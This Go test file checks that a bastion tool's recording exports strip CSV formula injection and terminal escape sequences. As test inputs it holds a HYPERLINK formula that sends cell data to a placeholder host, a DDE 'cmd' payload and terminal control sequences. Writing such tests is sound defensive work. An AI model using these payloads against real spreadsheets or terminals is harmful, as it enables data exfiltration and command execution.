package bastion_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"iter"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"

	"github.com/twokey/twokey/bastion"
	"github.com/twokey/twokey/session"
)

// This file hands the commands about recordings what somebody wrote into them for
// whoever looks: for their terminal, and for their spreadsheet.

// planted is an archive with one recording of a few statements.
type planted struct {
	bastion.Archive // of which nothing else is asked
	texts           []string
}

func (planted) Summary(context.Context, string) (session.Summary, error) {
	return session.Summary{Engineer: "=alice", Target: "orders", Mode: "read", Started: time.Unix(1, 0)}, nil
}

func (p planted) Events(context.Context, string) iter.Seq2[session.Event, error] {
	return func(yield func(session.Event, error) bool) {
		for i, text := range p.texts {
			s := session.Event{Type: session.Statement, Statement: &session.StatementInfo{N: i + 1, Protocol: "simple", Text: text, Params: []string{text}}}
			r := session.Event{Type: session.Result, Result: &session.ResultInfo{N: i + 1, Message: text, Tag: "SELECT 1"}}
			if !yield(s, nil) || !yield(r, nil) {
				return
			}
		}
	}
}

// ran runs a command and returns what it wrote.
func ran(t *testing.T, c *cobra.Command, args ...string) string {
	t.Helper()
	var out bytes.Buffer
	c.SetOut(&out)
	c.SetErr(&out)
	c.SetArgs(args)
	if err := c.Execute(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func exporter(texts ...string) *cobra.Command {
	return bastion.Recordings{Archive: planted{texts: texts}}.Commands("ls", "search", "play", "export", "verify")[3]
}

const someID = "01KAQ8J5V5M6Q2W3E4R5T6Y7V8"

// A spreadsheet runs what begins like a formula.
func TestCSVHoldsNoFormula(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://x/"&A1)`, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=1\n=2", "＝1"}
	rows, err := csv.NewReader(strings.NewReader(ran(t, exporter(formulas...), someID, "--statements", "--csv"))).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for n, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
				t.Errorf("row %d: %s is %q", i, rows[0][n], cell)
			}
		}
	}
	rows, err = csv.NewReader(strings.NewReader(ran(t, exporter("select -1, '=1'"), someID, "--statements", "--csv"))).ReadAll()
	if err != nil || rows[1][11] != "select -1, '=1'" {
		t.Errorf("honest SQL became %q, %v", rows, err)
	}
}

// JSON is exact, and drives no terminal.
func TestJSONDrivesNoTerminal(t *testing.T) {
	const evil = "\x1b]0;a\a\u009b2J\x7f\u202e\u2028€😀\U000e0001"
	lines := ran(t, exporter(evil), someID, "--statements")
	var s struct{ Text string }
	if err := json.Unmarshal([]byte(lines), &s); err != nil || s.Text != evil {
		t.Errorf("%q, %v", s.Text, err)
	}
	who := session.Identity{Issuer: "i", Subject: "s", Name: evil, Groups: []string{evil}, Claims: map[string]string{evil: evil}, SamePerson: evil}
	trail := ran(t, bastion.AuditCommand(func(context.Context, time.Time, time.Time) iter.Seq2[session.Deed, error] {
		return func(yield func(session.Deed, error) bool) {
			yield(session.Deed{What: session.DeedType(evil), Who: &who, Text: evil}, nil)
		}
	}), "--json")
	for what, text := range map[string]string{"export": lines, "audit": trail} {
		if i := strings.IndexAny(strings.TrimSuffix(text, "\n"), "\x1b\a\u009b\x7f\u202e\u2028\U000e0001\n"); i >= 0 {
			t.Errorf("%s writes %q", what, text[i:])
		}
		if what == "export" && !strings.Contains(text, "€😀") {
			t.Errorf("%s escapes what it need not: %q", what, text)
		}
	}
}
